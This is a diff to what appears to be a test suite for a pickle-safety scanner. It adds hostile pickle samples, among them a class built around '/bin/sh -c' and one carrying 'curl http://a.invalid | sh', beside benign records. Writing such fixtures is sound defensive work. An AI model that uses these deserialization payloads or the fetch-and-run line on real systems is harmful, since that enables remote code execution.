@@ -110,6 +110,12 @@ HOSTILE = {
         name("os", "system"),
         b"(" + text("id") + b"t",
     ),
+    "class made of what a shell is to run": new(
+        name("acme", "Launcher"), listed(text("/bin/sh"), text("-c"), text("true"))
+    ),
+    "class made of a line for a shell": new(
+        name("acme", "Task"), text("curl http://a.invalid | sh")
+    ),
     "own setter": built(
         built(new(name("acme", "Thing")), __setstate__=name("acme.proc", "run")), x=text("id")
     ),
@@ -135,6 +141,9 @@ HARMLESS = {
     )
     + b")R",
     "named tuple": new(name("mine", "Row"), text("python train.py"), text("/data/x.csv")),
+    "record of a command": new(
+        name("mine", "Step"), listed(text("python"), text("--lr"), text("0.1"))
+    ),
     "settings by name": by_name(name("mine", "Config"), name=text("x"), size=ONE),
     "value of an enumeration": call(name("mine", "Place"), text("/a/b")),
     "word of an enumeration": call(name("mine", "Animal"), text("cat")),
